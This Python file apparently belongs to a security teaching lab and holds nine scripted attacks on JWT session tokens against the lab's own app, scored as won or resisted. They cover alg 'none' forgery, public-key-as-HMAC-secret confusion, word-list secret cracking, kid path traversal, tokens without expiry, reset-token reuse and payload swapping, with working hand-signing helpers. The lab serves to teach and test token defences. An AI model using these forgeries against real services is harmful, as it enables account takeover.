"""Attacks on tokens. Numbers 25 to 33 of the catalogue.

Mallory has an account, so a good token of her own. What she wants is the profile page of member 3. Two
attacks need a token that the house signed and she did not make: 30 (an old release left it without an end)
and 31 (it came by mail, to reset a password). There the lab signs it, with the app's own key.
"""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from typing import Any

from authlab.app import App
from authlab.course.bank import Outcome, attack, resisted, won
from authlab.course.flaws.lesson_03_tokens import COMPANY, COMPANY_KEY_ON_ONE_LINE, COMPANY_PUBLIC_KEY
from authlab.errors import SettingsError
from authlab.lab.apps import GRACE, LabApp
from authlab.lab.browser import Browser
from authlab.tokens import load_secret

COOKIE = "__Host-session"
WORDS = ("changeme", "password1", "your_secret_key", "correct horse battery staple")


@attack(25)
def read_the_payload(app: LabApp) -> Outcome:
    """Read the token of an admin as whoever finds it in a log can: without any key."""
    grace = app.browser()
    grace.post("/login", {"email": GRACE[1], "password": GRACE[2]})
    claims = _claims(grace.cookies[COOKIE].value)
    told = [text for text in (GRACE[0], GRACE[1], "admin", "$2b$") if text in json.dumps(claims)]
    return won(f"the token tells {told}") if told else resisted(f"ids and times only: {', '.join(claims)}")


@attack(26)
def unsigned(app: LabApp) -> Outcome:
    """Write member 3 into the token, `none` into its header, and leave the signature out."""
    token = _own_token(app.browser())
    claims = {**_claims(token), "sub": "3"}
    for algorithm in ("none", "nOnE", "NONE", ""):
        header = {**_header(token), "alg": algorithm}
        tried = _open_profile(app, f"{_segment(header)}.{_segment(claims)}.")
        if tried.won:
            return won(f"alg {algorithm}: {tried.evidence}")
    return tried


@attack(27)
def public_key_as_secret(app: LabApp) -> Outcome:
    """Sign with HS256, and take the public key that the app trusts for RS256 as the secret."""
    token = _own_token(app.browser())
    claims = {**_claims(token), "sub": "3", "iss": COMPANY}
    for public in (COMPANY_PUBLIC_KEY, COMPANY_KEY_ON_ONE_LINE):
        tried = _open_profile(app, _sign(_header(token), claims, public))
        if tried.won:
            return tried
    return tried


@attack(28)
def guess_the_secret(app: LabApp) -> Outcome:
    """Meet the app as a hurried operator set it up, and try a word list on the signature of one token."""
    said = ""
    for env in ({}, *({"SESSION_SECRET": word} for word in WORDS)):
        try:
            key = load_secret(env, "SESSION_SECRET")
        except (SettingsError, KeyError, ValueError) as refused:
            said = f"the app does not start: {refused}"
            continue
        hurried = App(replace(app.settings, session_keys={"hurried": key}))
        token = _own_token(Browser(hurried, app.clock))
        text, _, signature = token.rpartition(".")
        for guess in _guesses():
            if _signature(text, guess) == signature:
                forged = _sign(_header(token), {**_claims(token), "sub": "3"}, guess)
                return _open_profile(app, forged, Browser(hurried, app.clock), f"with {env}: ")
    return resisted(said)


@attack(29)
def key_id_as_path(app: LabApp) -> Outcome:
    """Sign with a file that everybody can read, and name its path as the id of the key."""
    mallory = app.browser()
    token = _own_token(mallory)
    claims = {**_claims(token), "sub": "3"}
    logo = mallory.get("/static/favicon.svg").content
    for kid in ("../static/favicon.svg", "....//static/favicon.svg"):
        tried = _open_profile(app, _sign({**_header(token), "kid": kid}, claims, logo), said=f"kid {kid}: ")
        if tried.won:
            return tried
    return tried


@attack(30)
def token_without_end(app: LabApp) -> Outcome:
    """Come back a year later: with a copy of the own token, and with one that never said when it ends."""
    token = _own_token(app.browser())
    app.clock.advance(days=365)
    claims = {**_claims(token), "sub": "3"}
    claims.pop("exp", None)
    endless = _sign(_header(token), claims, app.settings.signing_key)  # signed by the house, see above
    for said, copy in (("a copy of my own token", token), ("a token without exp", endless)):
        page = _profile(app, copy)
        if page.status_code != 303:
            return won(f"{said}, a year later: {page.status_code}")
    return resisted(f"{page.status_code}, to {page.headers.get('Location')}")


@attack(31)
def reset_token_as_session(app: LabApp) -> Outcome:
    """Use the token out of a mail that resets member 3's password as a session cookie."""
    token = _own_token(app.browser())
    claims = {**_claims(token), "sub": "3", "aud": "authlab.reset"}
    return _open_profile(app, _sign(_header(token), claims, app.settings.signing_key))  # see above


@attack(32)
def payload_swapped(app: LabApp) -> Outcome:
    """Write member 3 into the own token, and keep its signature."""
    token = _own_token(app.browser())
    _profile(app, token)  # the server has seen the signature, and found it good
    header, _, signature = token.split(".")
    payload = _segment({**_claims(token), "sub": "3"})
    return _open_profile(app, f"{header}.{payload}.{signature}")


@attack(33)
def no_text_at_all(app: LabApp) -> Outcome:
    """Write half of a surrogate pair into the token: a text that cannot be encoded as UTF-8.

    A real server reads headers as Latin-1, so there such a token comes in JSON, as an escape; the lab's
    browser hands the cookie over as it is.
    """
    for text in ("\ud800", _own_token(app.browser()) + "\ud800"):
        tried = _open_profile(app, text)
        if tried.won:
            return tried
    return tried


def _own_token(mallory: Browser) -> str:
    """Sign up or log in, and take the cookie out of the own browser."""
    form = {"name": "Mallory", "email": "mallory@evil.test", "password": "let-me-in-4"}
    mallory.post("/signup", form)
    mallory.post("/login", form)
    return mallory.cookies[COOKIE].value


def _profile(app: LabApp, token: str, browser: Browser | None = None) -> Any:
    mallory = browser or app.browser()
    mallory.set_cookie(COOKIE, token)
    return mallory.get("/profile")


def _open_profile(app: LabApp, token: str, browser: Browser | None = None, said: str = "") -> Outcome:
    page = _profile(app, token, browser)
    if app.vault in page.text:
        return won(f"{said}read member 3's profile: {app.vault}")
    if page.status_code >= 500:
        return won(f"{said}{page.status_code}, and the server says {app.crashes}")
    return resisted(f"{page.status_code}, to {page.headers.get('Location')}")


def _header(token: str) -> dict[str, Any]:
    """Read the first part of a token: the algorithm, and the id of the key."""
    return _opened(token.split(".")[0])


def _claims(token: str) -> dict[str, Any]:
    """Read the middle part of a token: that takes no key."""
    return _opened(token.split(".")[1])


def _opened(segment: str) -> dict[str, Any]:
    content: dict[str, Any] = json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))
    return content


def _segment(content: object) -> str:
    text = json.dumps(content, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def _sign(header: dict[str, str], claims: dict[str, Any], key: bytes) -> str:
    """Sign by hand: PyJWT would refuse some of these keys."""
    text = f"{_segment(header)}.{_segment(claims)}"
    return f"{text}.{_signature(text, key)}"


def _signature(text: str, key: bytes) -> str:
    digest = hmac.digest(key, text.encode(), hashlib.sha256)
    return base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def _guesses() -> Iterator[bytes]:
    """Each word as it is, as base64, and as programs stretch it to 32 bytes."""
    for word in WORDS:
        text = word.encode()
        yield from (text, text.ljust(32, b"\0"), hashlib.sha256(text).digest())
        with suppress(ValueError):
            yield base64.b64decode(text, validate=True)
